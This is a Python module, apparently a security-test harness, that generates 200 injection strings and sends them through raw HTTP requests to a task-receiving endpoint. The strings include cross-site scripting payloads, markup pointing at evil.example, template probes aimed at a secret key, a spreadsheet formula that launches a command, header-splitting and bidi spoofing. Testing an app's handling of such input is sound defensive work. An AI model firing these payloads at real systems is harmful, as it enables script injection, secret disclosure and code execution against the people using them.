"""200 texts that try to be more than text, and requests that carry each in every place it fits."""

import re
import socket
from urllib.parse import quote_from_bytes

CALLS = ["alert(1)", "fetch('/admin/')", "document.title='hostile'", "eval('alert(1)')"]
MARKUP = r"""
<script>{}</script>
</pre><script>{}</script>
</td></tr></table><script>{}</script>
<img src=x onerror={}>
<svg/onload={}>
<svg><animate onbegin={} attributeName=x dur=1s>
<body onload={}>
<details open ontoggle={}>
<input autofocus onfocus={}>
<video><source onerror={}></video>
<a href="javascript:{}">here</a>
<form action="javascript:{}"><button>go</button></form>
<math><mtext><table><mglyph><style><img src=x onerror={}>
" onmouseover="{}" x="
' onmouseover='{}' x='
x onmouseover={}
"><script>{}</script>
--><script>{}</script><!--
""".strip().split("\n")
OTHERS = r"""
<iframe src=/admin/ id=hostile></iframe>
<iframe srcdoc='<script>alert(1)</script>'>
<object data=/admin/></object>
<embed src=/admin/>
<base href=//evil.example/>
<meta http-equiv=refresh content='0;url=//evil.example/'>
<style>*{display:none}</style>
<link rel=stylesheet href=//evil.example/x.css>
<div style='position:fixed;inset:0'>x
<template><script>alert(1)</script></template>
<noscript><p title='</noscript><img>'>
<textarea></textarea><script>alert(1)</script>
<title></title><script>1</script>
<marquee>hostile</marquee>
<plaintext>
<xmp>
<!--
<![CDATA[<script>]]>
<?xml?>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;
&amp;lt;b&amp;gt;
<<b>b</b>
\u003cscript\u003ealert(1)\u003c/script\u003e
%3Cscript%3Ealert(1)%3C/script%3E
<b id=hostile>bold</b>
<form id=enqueue-form><input name=csrfmiddlewaretoken>
<a id=rows></a>
<img name=getElementById>
""".strip().split("\n")
OTHERS += ["\u2028<script>\u2029", "<scr\x00ipt>alert(1)"]
TEMPLATES = r"""
{{ 7*7 }}
{% debug %}
{% load static %}
{% include 'admin/base.html' %}
{{ request.session }}
{{ settings.SECRET_KEY }}
${7*7}
#{7*7}
<%= 7*7 %>
{%csrf_token%}
{{ ''.__class__.__mro__ }}
%(password)s
{0.__class__}
$(id)
`id`
""".strip().split("\n")
HTMX = r"""
<div hx-get=/admin/ hx-trigger=load>x</div>
<b hx-post=/queues/default/pause/>x</b>
<i hx-on::load=alert(1)>x</i>
<u data-hx-get=/admin/ data-hx-trigger=load>x</u>
<tr id=poller hx-swap-oob=true><td>x
<div hx-vals='js:{a:alert(1)}'>x</div>
<s hx-ext=x hx-headers='{}' hx-target=body>x</s>
<p hx-disable=false hx-boost=true>x
<p x-data x-init=alert(1)>
<p @click=alert(1)>
<p v-html=alert(1)>
<p ng-app>
""".strip().split("\n")
BIDI = [f"a{chr(code)}b" for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F))]
BIDI += [f"txt.exe{chr(code)}fdp" for code in (*range(0x2066, 0x206A), 0xFEFF, 0x200B, 0x2060)]
CONTROL = [f"a{chr(code)}b" for code in (*range(0x00, 0x09), 0x0B, 0x0C, 0x0D, 0x1B, 0x7F)]
CONTROL += ["\x1b[2J\x1b[31mred", "a\r\nSet-Cookie: a=b", "\x9b31m", "a\x85b", "\x1b]0;x\x07"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("//x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    '"=1+1',
    'a",=1+1',
    ";=1+1",
]
NUMBERS = [
    "9" * 5000,
    "-" + "9" * 400,
    "1e999",
    "-1e-999",
    "NaN",
    "-Infinity",
    "0x" + "f" * 100,
    "9223372036854775808",
    "[" * 2000,
    '{"a":' * 500,
    "18446744073709551616",
    "1" + "0" * 308,
]
BROKEN = [
    b"\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xe2\x82",
    b"\xc3(",
    b"\x80abc",
    b"<script>\xff</script>",
    b"\xfe\xff\x00<\x00b\x00>",
    b"+ADw-script+AD4-alert(1)",
    b"\xe2\x80",
    b"\x1f\x8b\x08\x00",
    b"%PDF-1.4<script>",
    b"GIF89a<script>alert(1)</script>",
]


def payloads() -> list[bytes]:
    """Return the 200, each another; the kinds are spread, so that a few of them are of all."""
    markup = [text.format(CALLS[n % len(CALLS)]) for n, text in enumerate(MARKUP * 3)]
    markup = [f"{text}<!--{n}-->" if n >= len(MARKUP) else text for n, text in enumerate(markup)]
    kinds = [markup, OTHERS, TEMPLATES, HTMX, BIDI, CONTROL, FORMULAS, NUMBERS]
    texts = [text.encode("utf-8", "surrogatepass") for kind in kinds for text in kind] + BROKEN
    assert len(texts) <= 200
    texts += [b"<b id=hostile>%d" % n for n in range(200 - len(texts))]
    return [texts[(n * 37) % 200] for n in range(200)]


def request(number: int, payload: bytes, token: str, host: str) -> bytes:
    """Return a delivery with the payload as body and in path, query, headers and labels.

    Line ends and zeroes cannot stand in a head: there the payload goes without what HTTP refuses.
    """
    mark = b"p%03d-" % number
    in_head = re.sub(rb"[\x00-\x1f\x7f]", b"", payload)[:300]
    raw = re.sub(rb"[^!-~]|[#?]", b"", payload)[:200]
    path = b"/receive/" + mark + raw + quote_from_bytes(payload[:200], safe="").encode()
    lines = [
        b"POST %s?q=%s HTTP/1.1" % (path, raw),
        b"Host: " + host.encode(),
        b"Authorization: " + token.encode(),
        b"Content-Type: text/plain; x=" + in_head,
        b"X-CloudTasks-TaskName: " + mark + in_head,
        b"X-CloudTasks-QueueName: q" + in_head[:80],
        b"X-CloudTasks-TaskRetryCount: 0",
        b"X-CloudTasks-TaskRetryReason: " + in_head,
        b"X-Hostile: h" + in_head,
        b"Content-Length: %d" % len(mark + payload),
        b"Connection: close",
    ]
    return b"\r\n".join([*lines, b"", mark + payload])


def send(address: tuple[str, int], data: bytes) -> int:
    """Send one request as it stands and return the status of the answer."""
    with socket.create_connection(address, timeout=30) as connection:
        connection.sendall(data)
        answer = b""
        while part := connection.recv(65536):
            answer += part
    return int(answer.split(b" ", 2)[1])
